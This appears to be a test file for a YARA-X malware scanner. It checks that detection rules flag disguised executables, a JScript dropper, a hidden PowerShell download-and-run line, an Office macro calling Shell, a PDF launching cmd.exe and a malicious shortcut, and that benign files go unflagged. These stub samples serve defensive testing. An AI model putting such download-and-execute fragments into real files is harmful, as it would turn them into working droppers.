import packageJson from '@virustotal/yara-x/package.json' with { type: 'json' };
import { beforeAll, describe, expect, test } from 'vitest';
import type { Engine } from './engine.ts';
import { engineName } from './engine-name.ts';
import { eicar, ourBundle, realEngine } from './testing/samples.ts';

let engine: Engine;
beforeAll(async () => {
  engine = await realEngine();
});
const ruleFor = (name: string, content: Uint8Array | string) =>
  engine.look(Buffer.from(content), name).match?.rule;

const pe = Buffer.alloc(256);
pe.write('MZ');
pe.writeUInt32LE(0x80, 0x3c);
pe.write('PE', 0x80);
const wide = (text: string) => Buffer.from(text, 'utf16le');
const office = (text: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(512),
    wide('_VBA_PROJECT'),
    Buffer.from(text),
  ]);
const shortcut = (text: string) =>
  Buffer.concat([Buffer.from('4c0000000114020000000000c0', 'hex'), wide(text)]);
const dropper = [
  'var x = new ActiveXObject("MSXML2.XMLHTTP");',
  'var s = new ActiveXObject("ADODB.Stream");',
  'new ActiveXObject("WScript.Shell").Run("a.exe");',
].join('\n');

test('verdicts name the scanner that is installed', () => {
  expect(engineName).toBe(`yara-x/${packageJson.version}`);
});

describe('our rules', () => {
  test.each([
    ['eicar_test_file', 'test.com', `before ${eicar} after`],
    ['double_extension', 'in/invoice.pdf.exe', 'x'],
    ['double_extension', 'Invoice.PDF      .ScR', 'x'],
    ['double_extension', 'photo.jpg.lnk', 'x'],
    ['name_reads_backwards', 'annual\u202efdp.exe', 'x'],
    ['program_named_as_document', 'report.pdf', pe],
    ['program_named_as_document', 'photo.jpg', '\x7fELF....'],
    ['script_dropper', 'open me.js', dropper],
    [
      'script_dropper',
      'a.ps1',
      wide('powershell -w hidden; IEX (New-Object Net.WebClient).DownloadString("x")'),
    ],
    ['office_macro_runs_program', 'letter.doc', office('xAutoOpenx Shell("calc")')],
    ['pdf_starts_program', 'a.pdf', '%PDF-1.4 /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>'],
    ['shortcut_runs_script', 'a.lnk', shortcut('powershell.exe -w hidden http://x')],
  ])('%s matches %j', (rule, name, content) => {
    expect(ruleFor(name, content)).toBe(`waxwing_${rule}`);
  });

  test.each([
    ['a program under its own name', 'setup.exe', pe],
    ['a document of two dots', 'report.final.pdf', '%PDF-1.4'],
    ['a name with a right-to-left mark and no program', 'annual\u202efdp.txt', 'x'],
    ['a text about scripts', 'article.txt', dropper],
    [
      'a script that fetches in the open',
      'install.ps1',
      'Invoke-WebRequest https://example.org -OutFile a.zip',
    ],
    ['a macro that starts by itself and runs nothing', 'letter.doc', office('AutoOpen MsgBox')],
    ['an Office file without macros', 'letter.doc', office('').subarray(0, 520)],
    ['a PDF that opens at a page', 'a.pdf', '%PDF-1.4 /OpenAction [3 0 R /Fit]'],
    ['a shortcut to a folder', 'a.lnk', shortcut('C:\\Users\\Public')],
    ['the rules themselves', 'waxwing.yar', ourBundle.source],
    ['the bundle', 'scan-rules.json', ourBundle.text],
  ])('none matches %s', (_, name, content) => {
    expect(ruleFor(name, content)).toBeUndefined();
  });
});

describe("an operator's rules", () => {
  test('see the variables that public rule sets use', async () => {
    const own = await realEngine(`rule seen { condition:
      filename == "b.TXT" and filepath == "a/b.TXT" and extension == ".txt" and filetype == "" and owner == "" }`);
    expect(own.look(Buffer.from('x'), 'a/b.TXT').match?.rule).toBe('seen');
    expect(own.look(Buffer.from('x'), 'b.TXT').match).toBeUndefined();
  });

  test('may use modules, and private rules are no findings', async () => {
    const own = await realEngine(
      'import "hash" private rule p { condition: true } rule h { condition: p and hash.md5(0, filesize) == "9dd4e461268c8034f5c8564e155c67a6" }',
    );
    expect(own.look(Buffer.from('x'), 'a').match).toEqual({ rule: 'h' });
    expect(own.look(Buffer.from('y'), 'a').match).toBeUndefined();
  });

  test('that do not compile are refused with the words of the compiler', async () => {
    await expect(realEngine('rule broken { condition: nothing }')).rejects.toMatchObject({
      reason: 'rules_invalid',
      cause: expect.objectContaining({ message: expect.stringContaining('unknown identifier') }),
    });
  });
});

test('any number of files is scanned with one memory, and each by its own name', async () => {
  const { Memory } = WebAssembly;
  let made = 0;
  WebAssembly.Memory = new Proxy(Memory, {
    construct(target, [wanted]) {
      made++;
      return new target(wanted);
    },
  });
  try {
    const counted = await realEngine();
    const look = (name: string, content: string) => counted.look(Buffer.from(content), name).match?.rule;
    for (let file = 0; file < 10; file++) {
      expect(look(`in/invoice-${file}.pdf.exe`, 'x')).toBe('waxwing_double_extension');
      expect(look(`in/invoice-${file}.pdf`, 'x')).toBeUndefined();
      expect(look(`in/invoice-${file}.txt`, eicar)).toBe('waxwing_eicar_test_file');
    }
  } finally {
    WebAssembly.Memory = Memory;
  }
  expect(made).toBe(1);
});
